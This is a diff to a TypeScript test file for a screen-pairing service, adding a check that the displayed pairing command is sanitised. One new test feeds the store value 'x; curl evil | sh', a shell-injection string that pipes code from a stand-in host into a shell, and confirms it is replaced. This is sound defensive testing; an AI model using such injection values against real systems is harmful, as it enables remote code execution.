@@ -55,7 +55,11 @@ async function waiting(address = '10.0.0.7'): Promise<{ token: string; code: str
 
 test('a code admits one screen, and only the page that was given the token', async () => {
   const { token, code } = await waiting();
-  expect(await door.accessOf(token)).toMatchObject({ access: 'waiting', code });
+  expect(await door.accessOf(token)).toMatchObject({
+    access: 'waiting',
+    code,
+    command: `ordermesh display pair ${code} --chain`,
+  });
   // A page that is loaded again keeps its code.
   expect(await door.pair(token, undefined, '10.0.0.7')).toMatchObject({ token, access: { access: 'waiting', code } });
   expect(file.admit(code, 'grill')).toMatchObject({ name: 'grill' });
@@ -63,6 +67,18 @@ test('a code admits one screen, and only the page that was given the token', asy
   expect(await door.accessOf(token)).toMatchObject({ access: 'paired', name: 'grill', storeId: 'us-il-0001' });
   expect(await door.accessOf(code)).toEqual({ access: 'unpaired' });
   expect(await door.accessOf(newScreenToken())).toEqual({ access: 'unpaired' });
+});
+
+test('the command that a page shows has no text that a shell would act on', async () => {
+  for (const [store, option] of [
+    ['us-il-0001', '--store us-il-0001'],
+    ['x; curl evil | sh', '--store STORE'],
+  ]) {
+    const { access } = await door.pair('', store, '10.0.0.7');
+    expect(access).toMatchObject({
+      command: expect.stringMatching(new RegExp(`^ordermesh display pair \\w{6} ${option}$`)),
+    });
+  }
 });
 
 test('a code expires, and its token then admits nothing', async () => {
